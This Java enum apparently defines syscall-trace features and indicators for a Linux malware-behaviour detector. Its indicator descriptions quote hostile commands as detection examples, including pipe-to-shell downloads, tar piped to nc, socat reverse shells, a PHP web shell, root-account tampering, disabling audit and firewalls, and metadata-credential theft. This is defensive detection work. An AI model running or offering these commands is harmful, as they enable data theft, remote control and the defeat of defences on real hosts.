package io.procguard.ml;

/**
 * The features of schema {@value BehaviourFeatures#SCHEMA_VERSION}, in vector order (the ordinal is
 * the index). Immutable. Adding, removing, reordering or changing the meaning of a constant requires a
 * new schema version, a new FEATURES.md and a retrained model.
 *
 * <p>Values are rates over the process's syscalls ({@code _rate}, {@code freq}), ratios within a
 * group ({@code _ratio}), booleans (0/1), or {@code log1p} of counts ({@code _log}), so a one-second
 * and a one-hour process compare.
 */
enum Feature {
    // ---- activity
    ACT_SYSCALLS_LOG("act.syscalls_log", "log1p(number of syscalls)"),
    ACT_DISTINCT_SYSCALLS_LOG("act.distinct_syscalls_log", "log1p(number of distinct syscalls)"),
    ACT_SYSCALL_ENTROPY("act.syscall_entropy", "Shannon entropy (bits) of the syscall distribution"),
    ACT_THREADS_LOG("act.threads_log", "log1p(threads created with CLONE_THREAD)"),

    // ---- frequency profile: calls of the group / all syscalls
    SYS_FREQ_READ("sys.freq.read", "read, readv, pread64, preadv, preadv2"),
    SYS_FREQ_WRITE("sys.freq.write", "write, writev, pwrite64, pwritev, pwritev2"),
    SYS_FREQ_OPEN("sys.freq.open", "open, openat, openat2, creat"),
    SYS_FREQ_CLOSE("sys.freq.close", "close, close_range"),
    SYS_FREQ_STAT("sys.freq.stat", "stat, fstat, lstat, newfstatat, statx, access, faccessat, faccessat2"),
    SYS_FREQ_MMAP("sys.freq.mmap", "mmap, munmap, mremap, brk"),
    SYS_FREQ_MPROTECT("sys.freq.mprotect", "mprotect, pkey_mprotect"),
    SYS_FREQ_IOCTL("sys.freq.ioctl", "ioctl"),
    SYS_FREQ_GETDENTS("sys.freq.getdents", "getdents, getdents64 (directory listing)"),
    SYS_FREQ_SOCKET("sys.freq.socket", "socket, socketpair"),
    SYS_FREQ_CONNECT("sys.freq.connect", "connect"),
    SYS_FREQ_ACCEPT("sys.freq.accept", "accept, accept4"),
    SYS_FREQ_SEND("sys.freq.send", "sendto, sendmsg, sendmmsg"),
    SYS_FREQ_RECV("sys.freq.recv", "recvfrom, recvmsg, recvmmsg"),
    SYS_FREQ_POLL("sys.freq.poll", "poll, ppoll, select, pselect6, epoll_wait, epoll_pwait, epoll_pwait2"),
    SYS_FREQ_CLONE("sys.freq.clone", "clone, clone3, fork, vfork"),
    SYS_FREQ_EXECVE("sys.freq.execve", "execve, execveat"),
    SYS_FREQ_WAIT("sys.freq.wait", "wait4, waitid"),
    SYS_FREQ_KILL("sys.freq.kill", "kill, tkill, tgkill, pidfd_send_signal"),
    SYS_FREQ_DUP("sys.freq.dup", "dup, dup2, dup3"),
    SYS_FREQ_PIPE("sys.freq.pipe", "pipe, pipe2"),
    SYS_FREQ_FCNTL("sys.freq.fcntl", "fcntl"),
    SYS_FREQ_FUTEX("sys.freq.futex", "futex"),
    SYS_FREQ_SLEEP("sys.freq.sleep", "nanosleep, clock_nanosleep"),
    SYS_FREQ_SIGNAL("sys.freq.signal", "rt_sigaction, rt_sigprocmask, rt_sigreturn"),
    SYS_FREQ_IDENTITY("sys.freq.identity", "getuid, geteuid, getgid, getegid, getpid, getppid, uname, getgroups"),
    SYS_FREQ_RANDOM("sys.freq.random", "getrandom"),

    // ---- categories: calls of the category / all syscalls
    CAT_FILE_RATIO("cat.file_ratio", "file-system calls (open, stat, read/write on files, links, permissions)"),
    CAT_NET_RATIO("cat.net_ratio", "network calls (socket, connect, bind, send, recv, ...)"),
    CAT_PROC_RATIO("cat.proc_ratio", "process calls (clone, execve, wait, kill, exit, prctl)"),
    CAT_MEM_RATIO("cat.mem_ratio", "memory calls (mmap, mprotect, brk, madvise, memfd_create)"),
    CAT_IPC_RATIO("cat.ipc_ratio", "IPC and synchronisation (pipe, futex, shm, msg, sem, eventfd)"),
    CAT_TIME_RATIO("cat.time_ratio", "time and waiting (nanosleep, clock_*, poll, select, epoll)"),
    CAT_PRIV_RATIO("cat.priv_ratio", "credentials and capabilities (set*id, capset, setgroups, prctl)"),
    CAT_SYSADMIN_RATIO("cat.sysadmin_ratio", "system administration (mount, module load, reboot, bpf, setns)"),

    // ---- errors
    ERR_RATE("err.rate", "failed calls / syscalls"),
    ERR_EACCES_RATE("err.eacces_rate", "calls failing with EACCES / syscalls"),
    ERR_EPERM_RATE("err.eperm_rate", "calls failing with EPERM / syscalls"),
    ERR_ENOENT_RATE("err.enoent_rate", "calls failing with ENOENT / syscalls"),
    ERR_ECONNREFUSED_RATE("err.econnrefused_rate", "calls failing with ECONNREFUSED or ETIMEDOUT / syscalls"),
    ERR_BURST("err.burst", "largest share of failed calls in any window of 64 consecutive syscalls"),
    ERR_DENIED_BURST("err.denied_burst", "largest share of EACCES/EPERM in any window of 64 syscalls"),

    // ---- signals
    SIG_RECEIVED_LOG("sig.received_log", "log1p(signals delivered to the process)"),
    SIG_FAULT("sig.fault", "1 if it received SIGSEGV, SIGBUS, SIGILL, SIGFPE or SIGSYS"),
    SIG_FATAL("sig.fatal", "1 if a signal killed it"),
    SIG_CORE_DUMPED("sig.core_dumped", "1 if it dumped core"),
    SIG_SENT_LOG("sig.sent_log", "log1p(signals sent to other processes with kill/tgkill)"),

    // ---- sensitive paths
    PATH_SHADOW_READ("path.shadow_read", "1 if it opened /etc/shadow or /etc/gshadow (or backups) for reading"),
    PATH_SHADOW_WRITE("path.shadow_write", "1 if it wrote, renamed, unlinked or chmod'ed /etc/shadow or /etc/gshadow"),
    PATH_PASSWD_WRITE("path.passwd_write", "1 if it modified /etc/passwd or /etc/group"),
    PATH_SUDOERS("path.sudoers", "1 if it opened /etc/sudoers or /etc/sudoers.d/*"),
    PATH_SUDOERS_WRITE("path.sudoers_write", "1 if it modified /etc/sudoers or /etc/sudoers.d/*"),
    PATH_SSH_KEY_READ("path.ssh_key_read", "1 if it read a private key or authorized_keys under a .ssh directory or /etc/ssh/*_key"),
    PATH_SSH_WRITE("path.ssh_write", "1 if it modified a file under a .ssh directory (e.g. authorized_keys)"),
    PATH_PROC_MEM("path.proc_mem", "1 if it opened /proc/PID/mem, or used process_vm_readv/writev"),
    PATH_PROC_SCAN("path.proc_scan", "opens of /proc/PID/{environ,cmdline,maps,status} of other processes, log1p"),
    PATH_CRON_WRITE("path.cron_write", "1 if it modified /etc/cron*, /var/spool/cron or /etc/anacrontab"),
    PATH_SYSTEMD_WRITE("path.systemd_write", "1 if it modified systemd units, /etc/init.d, /etc/rc.local or xdg autostart"),
    PATH_SHELL_RC_WRITE("path.shell_rc_write", "1 if it modified a shell rc file (.bashrc, .profile, /etc/profile.d/*, ...); a home one in a directory made "
            + "during the trace is not one"),
    PATH_LD_PRELOAD_WRITE("path.ld_preload_write", "1 if it modified /etc/ld.so.preload"),
    PATH_LOG_TAMPER("path.log_tamper", "1 if it truncated, unlinked or rewrote /var/log/*, wtmp/btmp/lastlog or a shell history"),
    PATH_TMP_WRITE_LOG("path.tmp_write_log", "log1p(files created or written under /tmp, /var/tmp or /dev/shm)"),
    PATH_TMP_CHMOD_EXEC("path.tmp_chmod_exec", "1 if it made a file under /tmp, /var/tmp or /dev/shm executable"),
    PATH_SENSITIVE_READ_LOG("path.sensitive_read_log", "log1p(opens for reading of any sensitive path above)"),
    PATH_SENSITIVE_WRITE_LOG("path.sensitive_write_log", "log1p(modifications of any sensitive path above)"),

    // ---- files
    FILE_DISTINCT_LOG("file.distinct_log", "log1p(estimated distinct paths opened), bounded sketch"),
    FILE_OPEN_FAIL_RATIO("file.open_fail_ratio", "failed opens / opens"),
    FILE_WRITE_OPEN_RATIO("file.write_open_ratio", "opens for writing (O_WRONLY, O_RDWR, O_CREAT, O_TRUNC) / opens"),
    FILE_UNLINK_RATE("file.unlink_rate", "unlink, unlinkat, rmdir / syscalls"),
    FILE_RENAME_RATE("file.rename_rate", "rename, renameat, renameat2 / syscalls"),
    FILE_TRUNCATE_RATE("file.truncate_rate", "truncate, ftruncate, and opens with O_TRUNC / syscalls"),
    FILE_DESTRUCTIVE_BURST("file.destructive_burst", "largest share of unlink/rename/truncate in any window of 64 syscalls"),
    FILE_CHMOD_RATE("file.chmod_rate", "chmod, fchmod, fchmodat, chown family / syscalls"),
    FILE_CHMOD_EXEC("file.chmod_exec", "1 if it set an execute bit with chmod (not on a directory its family made)"),
    FILE_HIDDEN_WRITE("file.hidden_write", "1 if it created a dot-file or wrote under a dot-directory outside the home rc files"),
    IO_READ_BYTES_LOG("io.read_bytes_log", "log1p(bytes returned by read calls)"),
    IO_WRITE_BYTES_LOG("io.write_bytes_log", "log1p(bytes written by write calls)"),

    // ---- network
    NET_SOCKET_LOG("net.socket_log", "log1p(sockets created)"),
    NET_CONNECT_COUNT("net.connect_count", "log1p(connect calls)"),
    NET_CONNECT_INET("net.connect_inet", "1 if it connected (or tried) to an AF_INET/AF_INET6 address"),
    NET_CONNECT_FAIL_RATIO("net.connect_fail_ratio", "failed connects / connects"),
    NET_DISTINCT_ENDPOINTS_LOG("net.distinct_endpoints_log", "log1p(estimated distinct connect/sendto endpoints), bounded sketch"),
    NET_DISTINCT_PORTS_LOG("net.distinct_ports_log", "log1p(estimated distinct remote ports tried) - port scans"),
    NET_BIND_COUNT("net.bind_count", "log1p(bind calls on AF_INET/AF_INET6)"),
    NET_LISTEN("net.listen", "1 if it listens on a socket"),
    NET_ACCEPT_LOG("net.accept_log", "log1p(accepted connections)"),
    NET_RAW_SOCKET("net.raw_socket", "1 if it opened a SOCK_RAW or AF_PACKET socket"),
    NET_DUP_SOCKET_TO_STDIO("net.dup_socket_to_stdio", "1 if a socket fd was duplicated onto fd 0, 1 or 2 (dup2/dup3)"),
    NET_STDIO_SOCKET_IO("net.stdio_socket_io", "1 if it read or wrote fd 0/1/2 while that fd was a TCP/UDP socket (-yy)"),
    NET_BYTES_LOG("net.bytes_log", "log1p(bytes sent and received on sockets)"),

    // ---- exec
    EXEC_COUNT_LOG("exec.count_log", "log1p(successful execve)"),
    EXEC_FAIL_RATIO("exec.fail_ratio", "failed execve / execve"),
    EXEC_SHELL("exec.shell", "1 if it exec'd a shell (sh, bash, dash, zsh, ksh, fish, busybox)"),
    EXEC_SHELL_C("exec.shell_c", "1 if it exec'd a shell with -c"),
    EXEC_SHELL_INTERACTIVE("exec.shell_interactive", "1 if it exec'd a shell with -i"),
    EXEC_INTERPRETER("exec.interpreter", "1 if it exec'd a script interpreter (python, perl, ruby, php, node, lua)"),
    EXEC_DOWNLOADER("exec.downloader", "1 if it exec'd a downloader or relay (curl, wget, nc, ncat, socat, tftp, ftp)"),
    EXEC_RECON("exec.recon", "log1p(exec of discovery tools: id, whoami, uname, hostname, ip, ifconfig, netstat, ss, ps, w, last)"),
    EXEC_FROM_TMP("exec.from_tmp", "1 if it exec'd a file under /tmp, /var/tmp, /dev/shm or a memfd"),
    EXEC_AFTER_CONNECT("exec.after_connect", "1 if it exec'd after connecting to an AF_INET/AF_INET6 address"),
    EXEC_ENCODED_ARGS("exec.encoded_args", "1 if an argv holds base64 -d, a long base64 blob, or /dev/tcp"),

    // ---- memory
    MEM_WX_MAPPING("mem.wx_mapping", "1 if it mapped or mprotect'ed memory writable and executable at once"),
    MEM_ANON_EXEC("mem.anon_exec", "log1p(anonymous mappings made executable: mmap MAP_ANONYMOUS|PROT_EXEC, mprotect +PROT_EXEC)"),
    MEM_MEMFD("mem.memfd", "1 if it called memfd_create"),

    // ---- privilege and process control
    PRIV_SETUID("priv.setuid", "1 if it called setuid, setreuid, setresuid or setfsuid"),
    PRIV_SETGID("priv.setgid", "1 if it called setgid, setregid, setresgid, setfsgid or setgroups"),
    PRIV_CAPSET("priv.capset", "1 if it called capset"),
    PRIV_PTRACE("priv.ptrace", "1 if it called ptrace"),
    PRIV_PTRACE_ATTACH("priv.ptrace_attach", "1 if it attached to or poked another process (PTRACE_ATTACH, SEIZE, POKE*)"),
    PRIV_NAMESPACE("priv.namespace", "1 if it called unshare, setns, mount, pivot_root or chroot"),
    PRIV_MODULE("priv.module", "1 if it loaded a kernel module, a BPF program or a kexec image"),
    PRIV_DENIED_RATE("priv.denied_rate", "privileged calls (set*id, capset, ptrace, mount, ...) failing with EPERM/EACCES / syscalls"),
    PROC_FORK_RATE("proc.fork_rate", "child processes created / syscalls"),
    PROC_FORK_BURST("proc.fork_burst", "largest share of fork/clone(process) in any window of 64 syscalls"),
    PROC_SETSID("proc.setsid", "1 if it called setsid (daemonizes, detaches from the terminal)"),
    PROC_RENAME("proc.rename", "1 if it renamed itself with prctl(PR_SET_NAME)"),
    PROC_KILL_OTHERS("proc.kill_others", "1 if it sent SIGKILL/SIGTERM/SIGSTOP to pid -1 or another process group"),
    PROC_FORK_GENERATION("proc.fork_generation", "generations of fork without exec above it (0 after an exec), capped at 8"),

    // ---- indicators: one 0/1 per recognised-bad behaviour category, with a severity (1 low .. 3 high)
    IND_CREDENTIAL_READ("ind.credential_read", 3, "opened (even if denied) /etc/shadow, gshadow, opasswd, a private SSH "
            + "key, a cloud/browser/VCS credential store, or another process's environ; not by account or ssh tools, nor "
            + "by an archiver, cp -r/-a, grep -r or diff -r walking a directory it was given (a backup; naming the file still counts), "
            + "nor by a store's own client (docker its config.json, psql its .pgpass, gpg its keys), nor /etc/shadow by an "
            + "installed Perl program (Perl's getpw* read it as root; perl -e and scripts elsewhere still count), nor a directory opened "
            + "to be listed (find walking through ~/.gnupg/private-keys-v1.d); or, as a downloader, shell or interpreter "
            + "given its program on its command line, asked a cloud's metadata service (169.254.169.254, fd00:ec2::254) for an instance "
            + "role's or service account's credentials; or, as such a tool or a file viewer or copier (cat, base64, cp, "
            + "curl, ...), read a Kubernetes service account's token or a Kerberos keytab or ticket cache; or, holding an inet "
            + "connection, read its stdin from a pipe a family member that read such a file writes into (tar czf - /etc | nc "
            + "HOST PORT), or read a file such a member wrote (tar czf x.tgz /etc; curl -F f=@x.tgz URL; secrecy follows "
            + "pipes: tar's gzip); not ssh, rsync, aws, rclone, restic, borg; or, by hand (cat, cp, a shell), a token its "
            + "client holds (gh's hosts.yml, .vault-token, .npmrc, .pypirc, Azure's and Terraform's tokens, /etc/ssl/private, "
            + "admin.conf) or a browser's cookies"),
    IND_PERSISTENCE("ind.persistence", 3, "modified a cron file, systemd unit, init script, xdg autostart entry, shell rc "
            + "file (not a home one in a directory made during the trace), authorized_keys, ~/.ssh/rc, ld.so.preload or a kernel "
            + "setting naming a program the kernel runs as root (core_pattern, modprobe, uevent_helper, a cgroup's "
            + "release_agent), a script root runs "
            + "at an event (/etc/update-motd.d, NetworkManager's and ifupdown's hooks; udev rules, APT hooks in apt.conf.d, "
            + "PAM, X session scripts, modules loaded at boot, initramfs and GRUB scripts, systemd generators, the loader's "
            + "search path, /etc/environment, logrotate scripts, bash completions; the ssh server's sshd_config), or made a file "
            + "setuid (chmod u+s) or gave it capabilities (setcap), or made one of these immutable or append-only (chattr +i), "
            + "or wrote a program of /usr/bin, /usr/sbin, /bin, /sbin or a shared library of the system's library directories "
            + "(a trojaned sshd, a backdoored pam_unix.so; not update-alternatives, ldconfig), or, as a shell, downloader or "
            + "one-liner, wrote a web shell into /var/www or /srv (<?php system($_GET[...]) ?>); "
            + "not by package managers nor their maintainer scripts; "
            + "or loaded (or tried to) a kernel module from outside /lib/modules (insmod /tmp/x.ko), or from memory by "
            + "anything but modprobe, insmod or udev"),
    IND_ACCOUNT_TAMPER("ind.account_tamper", 3, "modified or tried to modify (even if denied) /etc/passwd, group, shadow, "
            + "sudoers or ld.so.preload (their immutable or append-only flag set or taken off too: chattr -i), or was denied a write to a persistence location (cron, systemd, a shell profile, "
            + "authorized_keys, core_pattern, update-motd.d); not by account tools; or, by "
            + "anyone, opened an account file up with chmod (shadow readable by others, passwd or sudoers group/world "
            + "writable) or asked an account tool for user id 0 (useradd -o -u 0) or to empty root's password (passwd -d root)"),
    IND_LOG_TAMPER("ind.log_tamper", 2, "truncated or deleted (or tried to), renamed, overwrote, timestomped or symlinked away a "
            + "log under /var/log, a login record or a shell history, or took its append-only or immutable flag off (chattr -a); not by log rotators, nor a shell saving its own history "
            + "(rewritten or trimmed by the shell itself; not a shell run with -c or a script, nor a child before its exec), "
            + "nor a program in its own /var/log/NAME/ (apt-get in /var/log/apt/); or cleared the kernel log (dmesg -c/-C, "
            + "even if refused); or turned a defense off: stopped, disabled, masked or killed a logging, audit or security "
            + "service (systemctl stop auditd, service rsyslog stop, pkill falco), auditctl -e 0 or -D, setenforce 0, ufw "
            + "disable, aa-teardown, emptied the firewall (iptables -F, nft flush ruleset, ufw reset), or wrote 0 to kernel.randomize_va_space or kernel.yama.ptrace_scope; not under a package "
            + "tool; or cloned a child out of the tracer's reach (clone with CLONE_UNTRACED: it runs unseen)"),
    IND_MASS_REWRITE("ind.mass_rewrite", 3, "deleted or renamed at least 8 files it did not create and wrote at least 8 "
            + "files (encrypt-and-replace); or it and the processes below it removed at least 8 files nobody of the family "
            + "created after the family wrote an extended copy of each (f.locked, then rm f, one process per file); not by "
            + "compressors, archivers, VCS, package or account tools; but an archiver told to encrypt and to delete what it "
            + "packs (zip -m -P, 7z -p -sdel, rar m -hp) that removed at least 8 such files is; or read at least 8 files "
            + "it did not create and wrote each back over itself (O_RDWR) with as many mostly unprintable bytes (encryption "
            + "in place)"),
    IND_STAGED_EXEC("ind.staged_exec", 3, "exec'd or made executable a file its family wrote after an inet connect (not "
            + "archivers, VCS, package managers: pip, npm, ...); "
            + "exec'd a file under /tmp, /var/tmp, /dev/shm (./x resolved against the working "
            + "directory; not what its family's linker wrote, nor what tar or unzip unpacked from an archive file while "
            + "nothing of the family had been downloaded), a hidden file, a memfd, or a file "
            + "it (or the parent it forked from) created; or chmod +x on a hidden file (not a version manager's "
            + "shims/.NAME-shim), on a file in /tmp that neither it nor "
            + "its family created (its parent, or a child of either that ended before; bind and link create files too), or "
            + "after an inet connect (not by archivers, VCS or package managers); x on a directory its family made is no exec bit; "
            + "or, as a shell or interpreter, read its program from a pipe its family fed from an inet connection (curl URL | "
            + "sh, also through filters such as base64 -d; bash <(curl URL); source <(curl URL)), ran a script its family "
            + "downloaded (curl -o x.sh URL && sh x.sh, sh < x.sh, cat x.sh | sh; a file created just before the connect "
            + "counts: wget -O), or was "
            + "given on its command line what its family read from such a pipe (bash -c \"$(curl URL)\"), or ran a command line "
            + "that stands in what its shell parent read from such a pipe (eval \"$(curl URL)\"), or, as an interpreter, was "
            + "given a program that fetches and evaluates (python3 -c \"exec(urlopen(URL).read())\"), or ran a program that "
            + "it or its parent read from a TCP/UDP socket (or, as an application server a web server feeds over a UNIX "
            + "stream socket, from one: php-fpm, uwsgi, gunicorn, uvicorn, puma, ...), whole or as a request's value (a web shell's ?c=id run as "
            + "sh -c id, a command channel's line; a value with a shell metacharacter, ; | & $ ` or a newline, inside a longer command: injection), or mapped as "
            + "code a library under /tmp, /var/tmp, /dev/shm its family did not build (LD_PRELOAD=/tmp/x.so)"),
    IND_MASQUERADE("ind.masquerade", 2, "renamed itself (prctl PR_SET_NAME by the main thread) to another name than its "
            + "program's or script's, exec'd with a "
            + "[kernel-thread] argv[0] or from a file named like a kernel thread (kworker, kdevtmpfsi, kswapd0), deleted its own executable or script, or made an executable named like a privilege "
            + "program (sudo, su, doas, pkexec, passwd, login) outside the system's program directories (~/.local/bin/sudo), "
            + "or mounted (or tried to) over a process's /proc/PID, hiding it from ps"),
    IND_SETID_ATTEMPT("ind.setid_attempt", 2, "a set*id, setgroups or capset call failed with EPERM, or su/sudo/pkexec/doas "
            + "ran for a non-root user without a terminal, or a shell or interpreter run by a non-root user set its uid to 0 "
            + "(python3 with cap_setuid: os.setuid(0)), or reached for the host through a container runtime or namespaces "
            + "(docker run -v /:/host writable, --privileged with --pid=host, nsenter -t 1 -m, or a privileged or host-root "
            + "container asked of Docker's socket: curl --unix-socket /var/run/docker.sock .../containers/create)"),
    IND_INJECTION("ind.injection", 3, "ptrace attach/seize/poke/setregs, /proc/PID/mem of another process, or "
            + "process_vm_readv/writev on another process; not by debuggers"),
    IND_REVERSE_SHELL("ind.reverse_shell", 3, "a TCP/UDP socket on fd 0/1/2 (dup2 or -yy), a shell exec'd after an "
            + "inet connect, or an interactive shell (-i, no -c) reading its commands from a pipe or FIFO while its "
            + "family holds an inet connection (a relay: mkfifo with nc or openssl), or a shell forked by a process "
            + "connected to an inet address (not a CI agent such as gitlab-runner; or that accepted one, not sshd or telnetd), "
            + "interactive or reading its program "
            + "from a pipe or socket (socat TCP:H:P EXEC:sh; the bind shell socat TCP-LISTEN:P,fork EXEC:sh)"),
    IND_PORT_SCAN("ind.port_scan", 2, "connected (or tried) to at least 20 distinct remote ports, or to at least 20 "
            + "distinct hosts on a service port worms sweep (ssh, telnet, Docker, Redis, RDP, SMB, VNC, ...)"),
    IND_FORK_STORM("ind.fork_storm", 2, "member of a run of 4 generations in a row of forks without exec that each "
            + "had 2 or more children alive at once (itself, its ancestors or, once one ended, its descendants), or a "
            + "child of such a member within 4 generations, or a fork failed with EAGAIN (process limit); not the nested "
            + "subshells of scripts"),
    IND_MEM_EXEC("ind.mem_exec", 2, "writable+executable memory or memfd_create; not by JIT runtimes (java, node, ...) "
            + "nor PCRE2 JIT users (git, grep, ...)"),
    IND_RECON("ind.recon", 1, "host enumeration: other processes' /proc files (16 or more, not by process viewers nor "
            + "userdel/usermod), "
            + "discovery files of 4 or more kinds (not an archiver or a recursive cp, grep or diff walking a directory), or find hunting setuid/writable files or private keys and password stores by name (-name id_rsa, *.kdbx), or getcap -r /"),
    IND_ENCODED_COMMAND("ind.encoded_command", 2, "exec'd with base64 -d, a long base64 blob or /dev/tcp in its argv"),
    IND_CRYPTOMINING("ind.cryptomining", 3, "spoke a mining pool's protocol on a TCP/UDP socket (Stratum's "
            + "mining.subscribe, mining.authorize, mining.submit, mining.notify; a CryptoNote pool's login with a miner's agent "
            + "or algorithms, its shares and jobs), ran with a pool URL (stratum+tcp://, stratum+ssl://) or XMRig's "
            + "--donate-level in its argv (the shell starting a miner too), loaded msr with allow_writes=on, or opened a "
            + "CPU's model-specific registers (/dev/cpu/N/msr) for writing, even if denied; not msr-tools' wrmsr nor power "
            + "tools; or asked DNS (a question sent to port 53, IPv4 or IPv6) for a mining pool's name (moneroocean.stream, supportxmr.com, "
            + "nanopool.org, ...), which pool traffic over TLS does not hide"),
    IND_DNS_TUNNEL("ind.dns_tunnel", 3, "sent data in DNS questions (tunnelling or exfiltration), it or its parent's "
            + "children together (a shell loop asking one chunk a process): 4 distinct questions in a row to port 53 (or 2 or more holding 240 characters of data) for names under one domain whose labels left of it "
            + "hold 32 or more characters of encoded text "
            + "(hex, base32, base64url: letters and digits, few hyphens; a label of 20 or more), or 16 with 16 or more (a "
            + "label of 16), or names so long strace's "
            + "-s cut them (160 characters read); not one hash-sized label (antivirus and mail scanners' hash lookups) nor "
            + "names in reputation services' zones (cymru.com, spamhaus, sophosxl.net, ...)"),
    IND_COUNT("ind.count", "how many distinct ind.* categories above fired"),
    IND_MAX_SEVERITY("ind.max_severity", "highest severity among the ind.* that fired (0 when none)"),
    IND_ANY("ind.any", "1 if any ind.* category fired");

    private final String id;
    private final String doc;
    private final int severity;

    Feature(String id, String doc) {
        this(id, 0, doc);
    }

    Feature(String id, int severity, String doc) {
        this.id = id;
        this.severity = severity;
        this.doc = severity == 0 ? doc : "indicator, severity " + severity + ": " + doc;
    }

    /** @return the severity of an indicator (1 low .. 3 high), 0 for other features */
    int severity() {
        return severity;
    }

    /** @return the schema name, e.g. {@code net.connect_count} */
    String id() {
        return id;
    }

    /** @return one line saying what the value measures */
    String doc() {
        return doc;
    }
}
